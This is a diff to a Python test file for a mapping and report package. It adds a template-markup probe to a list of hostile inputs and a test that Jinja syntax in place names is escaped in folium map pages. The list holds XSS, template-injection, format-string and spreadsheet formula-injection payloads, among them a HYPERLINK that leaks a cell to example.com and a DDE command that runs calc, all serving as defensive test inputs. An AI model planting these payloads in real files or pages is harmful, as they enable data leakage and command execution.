@@ -39,7 +39,7 @@ FIGURES = settings(max_examples=max(1, EXAMPLES // 150), deadline=None, phases=Q
 HOSTILE = [
     '=HYPERLINK("http://example.com/?leak="&A1,"Click")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1",
     "=cmd|' /C calc'!A0", "#N/A", "<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>",
-    "<svg onload=alert(1)>", "\"><script>alert(1)</script>", "javascript:alert(1)", "{{7*7}}", "${7*7}",
+    "<svg onload=alert(1)>", "\"><script>alert(1)</script>", "javascript:alert(1)", "{{7*7}}", "{% x %}", "${7*7}",
     "Cost $5 and $10", "$\\frac{1}{0}$", "$", "a $x^$ b", "\\", "%s%n", "Bell\x07\x00\x1b", "line\nbreak\r\n",
     "", " ", "Baile Àtha Cliath – Ærø ☃ 𝔘 中文 مرحبا", "x" * 300,
 ]
@@ -135,6 +135,19 @@ SCRIPT = re.compile(r"<(img|svg|script)[^>]*(onerror|onload|>alert)", re.IGNOREC
 @given(names=st.lists(_names(), min_size=1, max_size=4), title=_names())
 def test_figure_and_page_writers(ranked, names, title):
     _draw_all(ranked, names + HOSTILE, title)
+
+
+def test_template_markup_in_names_is_text_on_the_web_page(ranked, tmp_path):
+    """folium renders a map's scripts, their data included, as Jinja templates a second time:
+    a locality named "{{ 7*7 }} town" was shown as "49 town" (in its hover, its number's, the
+    GeoJSON), and "{% x %}" in a name or title stopped the page being written."""
+    _, table = _rename(*ranked, ["{{ 7*7 }} town", "{% x %}", "{# c"], None)
+    table.attrs["council"] = "Council {{ 5*5 }}"
+    for m in (maps.explore(table, column="income_rate", title="Title {{ 6*7 }} {% oops %}"),
+              maps.explore(table, poorer=True)):
+        page = maps.save_html(m, tmp_path / "map.html").read_text(encoding="utf-8")
+        assert not re.search(r"49 town|Title 42|Council 25", page)
+        assert "&#123;&#123; 7*7 &#125;&#125; town" in page and "&#123;% x %&#125;" in page
 
 
 def test_dollar_signs_in_map_text(ranked):
